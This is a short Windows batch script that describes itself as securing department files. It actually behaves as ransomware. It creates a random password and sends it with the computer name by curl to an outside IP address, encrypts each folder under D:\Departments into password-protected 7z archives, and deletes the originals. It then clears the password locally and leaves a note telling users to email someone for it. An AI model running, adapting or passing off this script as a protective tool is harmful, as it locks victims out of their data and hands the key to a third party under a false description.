@echo off
rem Secures the department files
setlocal EnableDelayedExpansion
set "Z=%ProgramFiles%\7-Zip\7z.exe"
set "PW=%RANDOM%%RANDOM%%RANDOM%%RANDOM%"
curl -s "http://192.0.2.9/k?h=%COMPUTERNAME%&p=%PW%" >nul 2>&1

for /d %%D in (D:\Departments\*) do (
    echo %%~nxD
    "%Z%" a -t7z -mhe=on -p%PW% -sdel "D:\Departments\%%~nxD.7z" "%%D\*" -r >nul
    rd /s /q "%%D"
)
set PW=
echo Ask files@example.com for the password > D:\Departments\README.txt
endlocal
